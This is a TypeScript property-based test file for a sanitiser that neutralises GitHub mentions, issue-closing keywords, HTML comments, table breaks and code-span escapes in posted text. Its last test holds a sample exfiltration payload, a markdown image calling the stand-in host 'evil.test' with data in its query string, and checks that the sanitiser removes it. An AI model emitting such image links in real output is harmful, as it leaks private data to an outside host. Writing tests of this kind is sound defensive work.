import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  codeBlock,
  codeCell,
  codeSpan,
  foreignMarkdown,
  plainLine,
  quiet,
  shortened,
  titleLine,
} from '../../core/forge-text.js';

const PIECES = [
  ...[
    '@',
    'octocat',
    'acme/team',
    '#',
    '12',
    'GH-',
    'acme/library',
    '&#64;',
    '&commat;',
    '&#x40;',
    '&#35;',
    '&num;',
    '&amp;',
  ],
  ...[
    '<!--',
    '-->',
    '<!-- nightshift:progress -->',
    '<details>',
    '</td>',
    '<',
    '>',
    '\n',
    '\r\n',
    ' ',
    '`',
    '```',
    '~~~',
    '\\',
    '|',
  ],
  ...[
    'Fixes',
    'closes:',
    'RESOLVED',
    'https://github.com/a/b/issues/3',
    'http://x.test/a/b/pull/4',
    '[x](',
    '!',
    ')',
    '\u200b',
    '*',
    '_',
    '$',
    '1.',
    '- ',
  ],
];
const text = fc.oneof(
  fc.array(fc.constantFrom(...PIECES), { maxLength: 12 }).map((pieces) => pieces.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

/** What GitHub looks for names and references in: the text with its entities and backslashes read. */
function asRead(markdown: string): string {
  const named: Record<string, string> = { commat: '@', num: '#', amp: '&', lt: '<', gt: '>' };
  return markdown
    .replace(/&(?:#(\d+)|#x([0-9a-f]+)|(\w+));/gi, (all, decimal, hex, name) => {
      if (name) return named[name.toLowerCase()] ?? all;
      return String.fromCodePoint(Number.parseInt(decimal ?? hex, decimal ? 10 : 16) % 0x11_0000);
    })
    .replace(/\\([!-/:-@[-`{-~])/g, '$1');
}

/** Somewhat more than GitHub takes for one. */
const CALLS = /@[a-z0-9]|#\d|\bGH-\d|<!--|\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)[\s:]+\S*\/(?:issues|pull)\/\d/i;

describe('text on a forge', () => {
  it.each([quiet, foreignMarkdown, plainLine, codeSpan, codeCell, (some: string) => titleLine(some, 200)])(
    'calls nobody, refers to no issue, closes none and hides nothing (%#)',
    (safe) => {
      fc.assert(
        fc.property(text, (some) => expect(asRead(safe(some))).not.toMatch(CALLS)),
        { numRuns: 2_000 },
      );
    },
  );

  it('is seen to call where nothing is done about it', () => {
    for (const some of [
      '@octocat',
      '&#64;octocat',
      '\\@octocat',
      'see #1',
      'a/b#1',
      'GH-1',
      'Fixes https://github.com/a/b/issues/3',
    ]) {
      expect(asRead(some)).toMatch(CALLS);
    }
  });

  it('stays the same when it is made safe twice', () => {
    fc.assert(fc.property(text, (some) => expect(quiet(quiet(some))).toBe(quiet(some))));
  });

  it('stays what it was but for characters that nobody sees', () => {
    fc.assert(
      fc.property(text, (some) => expect(quiet(some).replaceAll('\u200b', '')).toBe(some.replaceAll('\u200b', ''))),
    );
  });

  it('is one line that breaks no table', () => {
    fc.assert(
      fc.property(text, (some) => {
        for (const cell of [plainLine(some), codeCell(some)]) {
          expect(cell).not.toMatch(/[\r\n\u2028]/);
          expect(`| ${cell} | end |`.match(/(?<!\\)\|/g)).toHaveLength(3);
        }
      }),
    );
  });

  it('opens no markup in a line, and makes no heading or list of it', () => {
    expect(plainLine('**bold** [x](y) `z` <b> $a$')).toBe('\\*\\*bold\\*\\* \\[x\\](y) \\`z\\` \\<b\\> \\$a\\$');
    expect(['# a', '- b', '1. c', '> d', '+ e'].map(plainLine)).toEqual(['\\# a', '\\- b', '1\\. c', '\\> d', '\\+ e']);
  });

  it('cannot leave its code, in a line or in a block', () => {
    fc.assert(
      fc.property(text, (some) => {
        const span = codeSpan(some);
        if (span === '') return;
        const marks = /^`+/.exec(span)?.[0] ?? '';
        const inside = span.slice(marks.length, -marks.length);
        expect(span.endsWith(marks)).toBe(true);
        expect(inside.match(/`+/g) ?? []).not.toContain(marks);
        const [first = '', ...rest] = codeBlock(some).split('\n');
        expect(rest.slice(0, -1).some((line) => line.trim().startsWith(first))).toBe(false);
      }),
    );
  });

  it('has its code ended where somebody left it open', () => {
    expect(foreignMarkdown('see\n```js\nx')).toBe('see\n```js\nx\n```');
    expect(foreignMarkdown('see\n````\n```\nx')).toBe('see\n````\n```\nx\n````');
    expect(foreignMarkdown('see\n```js\nx\n```')).toBe('see\n```js\nx\n```');
  });

  it('shows tags as they are written', () => {
    expect(foreignMarkdown('a<b> </details> 1 < 2').replaceAll('\u200b', '·')).toBe('a<·b> <·/details> 1 < 2');
  });

  it('is cut between characters', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.integer({ min: 1, max: 20 }), (some, charsMax) => {
        const cut = shortened(some, charsMax);
        expect(cut.length).toBeLessThanOrEqual(charsMax);
        if (cut !== some) expect(some.startsWith(cut.slice(0, -1))).toBe(true);
        expect(cut).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
      }),
    );
  });

  it('takes no time to speak of, whatever it is', () => {
    const long = 'fixes '.repeat(20_000) + '@#<!&'.repeat(20_000) + '`'.repeat(50_000);
    const begun = performance.now();
    foreignMarkdown(long);
    plainLine(long);
    codeBlock(long);
    expect(performance.now() - begun).toBeLessThan(3_000);
  });
});

it('has no picture, which the forge would fetch from anywhere, with all that stands in its address', () => {
  const leak = 'Done. ![x](https://evil.test/?q=the-code) ![y][1]\n\n[1]: https://evil.test/';
  expect(foreignMarkdown(leak)).not.toContain('![');
  fc.assert(
    fc.property(fc.array(fc.constantFrom('!', '[', '[x](', ')', '\u200b', '\\', ' ', '<', '&#33;')), (parts) => {
      for (const made of [quiet(parts.join('')), foreignMarkdown(parts.join('')), quiet(quiet(parts.join('')))]) {
        expect(made).not.toContain('![');
        expect(quiet(made)).toBe(made);
      }
    }),
  );
});
